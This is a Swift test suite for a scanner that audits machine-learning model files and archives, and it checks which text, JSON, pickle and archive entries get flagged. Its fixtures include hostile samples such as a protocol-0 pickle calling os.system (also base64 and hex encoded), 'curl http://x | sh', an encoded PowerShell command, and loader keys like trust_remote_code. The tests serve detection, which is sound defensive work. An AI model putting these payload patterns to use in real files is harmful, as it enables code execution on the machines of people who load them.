import BBCUFileAudit
import BBCUPlatform
import TensorBytes
import Testing

/// Text is skipped unless a reader of pickles, or of JSON, would run something of it.
@Suite struct TextTests {
    static func scan(_ text: String, _ file: String) -> Scan {
        Scan(ByteRegion(Array(text.utf8)), file: file)
    }

    @Test(arguments: [
        ("README.md", "# A model\n\nMade by \u{E9}.\n"), ("config.json", "{\"a\": 1, \"auto_map\": null}"),
        ("vocab.json", "[\"class\", \"osystem\"]"), ("labels.txt", "cat\ndog\nRabbit\n"),
        ("merges.txt", "c\nat\nin\n"), ("a.yaml", "x: 1\n"), ("index.html", "<html><body></body></html>"),
        ("LICENSE", "Copyright\n(c) 2024\n"), ("tokenizer_config.json", "{\"chat_template\": null}"),
        ("a.json", "{\"auto_map\": {}, \"trust_remote_code\": false, \"chat_template\": \"\"}"),
        ("a.json", "{\"text\": \"auto_map\", \"b\": [\"trust_remote_code\", true]}"),
        ("README.md", "{\"auto_map\": {\"AutoModel\": \"m.C\"}} is what it says"),
        ("a.json", "{\"class_name\": \"Dense\", \"module\": \"keras.layers\"}"), ("words", "\u{FEFF}text"),
    ])
    func isSkipped(_ file: String, _ text: String) {
        let scan = Self.scan(text, file)
        #expect(scan.verdict == .skipped, "\(scan.names.map(\.fullName)) \(scan.findings) \(scan.notExamined)")
        #expect(scan.level == .clean)
    }

    @Test(arguments: [
        ("train.py", "print(1)\n"), ("run.sh", "ls\n"), ("a.ipynb", "{}"), ("setup", "#!/bin/sh\nls\n"),
        ("a.PY", "x = 1\n"), ("chat_template.jinja", "{{ x }}"), ("model.pth", "version https://git-lfs\n"),
    ])
    func isNotExamined(_ file: String, _ text: String) {
        let scan = Self.scan(text, file)
        #expect(scan.verdict == .unreadable)
        #expect(scan.level != .clean)
        #expect(!scan.notExamined.isEmpty || !scan.findings.isEmpty)
    }

    @Test(arguments: [
        ("{\"auto_map\": {\"AutoModel\": \"m.C\"}}", "auto_map"), (" \n{\"a\":[{\"auto_map\" : [ 1 ]}]}", "auto_map"),
        ("{\"trust_remote_code\": true}", "trust_remote_code"), ("[{\"chat_template\": \"{{x}}\"}]", "chat_template"),
        ("{\"chat\\u005Ftemplate\": \"{{x}}\"}", "chat_template"),
        ("\u{FEFF}{\"chat_template\": [{\"name\": \"a\"}]}", "chat_template"),
        ("{\"class_name\": \"Lambda\"}", "class_name: Lambda"),
        ("{\"config\": {\"class_name\": \"__lambda__\"}}", "class_name: __lambda__"),
        ("{\"module\": \"os\", \"class_name\": \"function\"}", "module: os"),
    ])
    func keysThatRunCode(_ text: String, _ key: String) {
        let scan = Self.scan(text, "config.json")
        #expect(scan.verdict == .unknown)
        #expect(scan.names.map(\.fullName) == [key])
    }

    /// A pickle of protocol 0 is text.
    @Test(arguments: [
        ("cos\nsystem\n(S'id'\ntR.", Scan.Verdict.dangerous), ("cos\nsystem\n and more text", .dangerous),
        ("cmy.module\nNet\n(tR and more text", .unknown), ("(lp0\nI1\na.", .expected),
    ])
    func picklesAreText(_ text: String, _ verdict: Scan.Verdict) {
        #expect(Self.scan(text, "notes.pkl").verdict == verdict)
    }

    /// Characters in parts, surrogates, control characters.
    @Test(
        arguments: [
            [0x61, 0xFF], [0x61, 0xC3], [0xED, 0xA0, 0x80], [0xC0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0x61, 0],
            [0x61, 0x1B],
            [0xE0, 0x80, 0x80], [0x61, 0x80],
        ] as [[UInt8]])
    func otherBytesAreNoText(_ bytes: [UInt8]) {
        #expect(Scan(ByteRegion(bytes), file: "notes.txt").verdict == .unreadable)
    }

    @Test func keysInsideAnArchive() throws {
        let archive = try Samples.zip([("config.json", Array("{\"class_name\": \"Lambda\"}".utf8))])
        let scan = Scan(ByteRegion(archive), file: "model.zip")
        #expect(scan.names.map(\.fullName) == ["class_name: Lambda"])
        #expect(scan.names.first?.place == "config.json")
        #expect(scan.verdict == .unknown)
    }

    /// A name that says nothing of what reads the text.
    @Test(arguments: ["evil", "run", "data/3", "x.unknown", "page.html", "version", "byteorder", "inflated"])
    func unknownNamesInAnArchive(_ name: String) throws {
        let scan = try Self.archive(name, "hello world\n")
        #expect(scan.notExamined.map(\.place) == [name], "\(scan.notExamined)")
        #expect(scan.level == .unexamined)
        #expect(scan.verdict == .unknown)
    }

    /// Programs under names of documents, lists and settings.
    @Test(arguments: [
        ("run.txt", "import os; os.system('id')\n"), ("LICENSE", "from os import system\n"),
        ("README", "def f(x):\n  x\n"),
        ("a.yaml", "x: 1\nimport os\n"), ("evil.md", "# A\n\nimport os; os.system('id')\n"),
        ("x.log", "curl http://x | sh\n"),
        ("a.txt", "print('hi')\n"), ("a.csv", "exec(x)\n"), ("a.txt", "#!/bin/sh\nls\n"), ("b.md", "#! /bin/sh\n"),
        ("a.txt", "<script>x</script>"), ("a.toml", "a = !!python/object:x"), ("a.txt", "powershell -enc AAAA\n"),
        ("a.txt", "import x from 'y'\n"), ("a.txt", "export A=1\n"), ("a.json", "{\"a\": 1} os.system(x)"),
        ("a.md", "```\nquoted\n```\nimport os\n"), ("a.jinja", "{{ x }}"), ("Makefile", "all:\n"),
        ("CMakeLists.txt", "x\n"),
        ("weights.pth", "version https://git-lfs.github.com/spec/v1\n"), ("extern_modules", "a b\n"),
    ])
    func programsInAnArchive(_ name: String, _ text: String) throws {
        let scan = try Self.archive(name, text)
        #expect(scan.notExamined.map(\.place) == [name], "\(scan.notExamined)")
        #expect(scan.verdict == .unknown)
        let tar = Scan(ByteRegion(Samples.tar([(name, Array(text.utf8))])), file: "a.tar")
        #expect(tar.notExamined.map(\.place) == [name], "\(tar.notExamined)")
    }

    /// What people put into archives beside a model.
    @Test(arguments: [
        ("README.md", "# A\n\n```python\nimport os\n```\n\n    import torch\n\nUse `import x` and model.eval().\n"),
        ("LICENSE", "of this License. Operating system(s), import, use\nContribution(s) alone or by Contribution(s)\n"),
        ("config.json", "{\"a\": [1, 2]}"), ("list", "{\"a\": 1}"), ("vocab.txt", "the\nimport\nfrom\n##s\n(\n"),
        ("merges.txt", "#version: 0.2\nimport \u{120}os\n$( '\n{ {\n"), ("a.yaml", "model: x\nlr: 1e-3\n"),
        ("requirements.txt", "torch>=2.0\n-r a.txt\n"), (".gitattributes", "*.bin filter=lfs\n"), ("version", "3\n"),
        ("byteorder", "little"), (".data/serialization_id", "0241533804664665241301016397199728385800"),
        ("extern_modules", "torch\nnumpy.core\n"), ("labels.txt", "cat\necho chamber\nset and match\n"),
        ("a.csv", "a,b\n1,2\n"), ("LICENSE-MIT", "Permission is granted\n"), ("NOTICE", "(c) 2024\n"),
    ])
    func textWithoutCodeInAnArchive(_ name: String, _ text: String) throws {
        let scan = try Self.archive(name, text)
        #expect(scan.verdict == .expected, "\(scan.notExamined) \(scan.findings)")
    }

    static func archive(_ name: String, _ text: String) throws -> Scan {
        Scan(ByteRegion(try Samples.zip([(name, Array(text.utf8))])), file: "a.zip")
    }

    /// `cos\nsystem\n(S'id'\ntR.` and more, written as text; the lines of the second have a length that tools use.
    @Test(arguments: [
        "Y29zCnN5c3RlbQooUydpZCcKdFIuMDAw", "Y29zCnN5c3RlbQooUydpZCcKdFIuMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAw\nMDAwMDAw\n",
        "636F730A73797374656D0A2853276964270A74522E",
    ])
    func filesWrittenAsText(_ text: String) throws {
        for name in ["a.txt", "a.md", "evil", "a.csv"] {
            let scan = try Self.archive(name, "x: " + text)
            #expect(scan.verdict == .dangerous, "\(name) \(scan.findings)")
            #expect(scan.names.map(\.fullName) == ["os.system"])
        }
        #expect(Self.scan("{\"a\": \"\(text)\"}", "a.json").verdict == .dangerous)
    }

    /// Hashes, words, and images that are shown.
    @Test(arguments: [
        "0f343b0931126a20f133d67c2b018a3b0f343b0931126a20f133d67c2b018a3b",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
        "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz",
    ])
    func textThatIsNoFile(_ text: String) throws {
        #expect(try Self.archive("a.txt", text).verdict == .expected)
        #expect(Self.scan(text, "a.txt").verdict == .skipped)
    }

    /// A pointer is no model: its level and the exit status say that it was not examined.
    @Test(arguments: ["model.pth", "model.safetensors", "model.bin", "notes.txt"])
    func pointers(_ file: String) {
        let scan = Self.scan("version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 3\n", file)
        #expect(scan.level == .unexamined)
        #expect(scan.verdict == .unreadable)
        #expect(scan.worst == "a Git LFS pointer: download the file itself (git lfs pull)")
    }

    /// The level says the same as the exit status for what cannot be read.
    @Test(arguments: [("model.pth", "<html>"), ("model.pth", "hello"), ("model.h5", "{\"a\": 1}"), ("a.npy", "hello")])
    func levelOfWhatIsNotRead(_ file: String, _ text: String) {
        let scan = Self.scan(text, file)
        #expect(scan.level == .unexamined)
        #expect(scan.verdict == .unreadable)
        #expect(scan.extensionAgrees == false)
    }
}
